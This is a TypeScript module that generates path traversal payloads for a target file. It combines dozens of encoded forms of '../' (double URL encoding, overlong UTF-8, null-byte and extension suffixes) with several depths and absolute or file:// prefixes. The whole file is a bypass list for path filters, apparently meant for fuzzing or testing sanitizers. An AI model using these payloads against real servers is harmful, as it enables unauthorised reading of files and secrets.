/** Ways to write `..` and a separator, as servers that decode once, twice or carelessly have understood them. */
const UPS = [
  '../',
  '..\\',
  '..%2f',
  '..%2F',
  '..%5c',
  '%2e%2e/',
  '%2e%2e%2f',
  '%2E%2E%5C',
  '.%2e/',
  '%2e./',
  '..%252f',
  '%252e%252e%252f',
  '%252e%252e%255c',
  '..%c0%af',
  '%c0%ae%c0%ae%c0%af',
  '..%c1%9c',
  '..%u2215',
  '%uff0e%uff0e%u2215',
  '..%ef%bc%8f',
  '..;/',
  '....//',
  '....\\\\',
  '..././',
  '...\\.\\',
  '..//',
  './../',
  '/%5c../',
  '..%00/',
  '..%0d/',
  '%09../',
];
const DEPTHS = [1, 2, 3, 5, 8, 16];
const ENDS = ['', '%00.png', '%00', '?.png', '#.png', '/.', '%20', '.'];
/** Where no step up is needed, or only where a reader strips something first. */
const STARTS = ['/', '//', '\\', 'file:///', 'file://localhost/', 'C:/', 'C:\\', '/proc/self/cwd/', '~/'];

/** Paths that lead from some folder to `target` where steps up are followed: every way at every depth, and every end. */
export const traversals = (target: string): readonly string[] => [
  ...UPS.flatMap((up) => DEPTHS.map((depth) => up.repeat(depth) + target)),
  ...ENDS.flatMap((end) => ['../', '%2e%2e%2f', '..\\'].map((up) => up.repeat(3) + target + end)),
  ...DEPTHS.map((depth) => encodeURIComponent('../'.repeat(depth) + target)),
  ...STARTS.flatMap((start) => [start + target, encodeURIComponent(start + target)]),
];
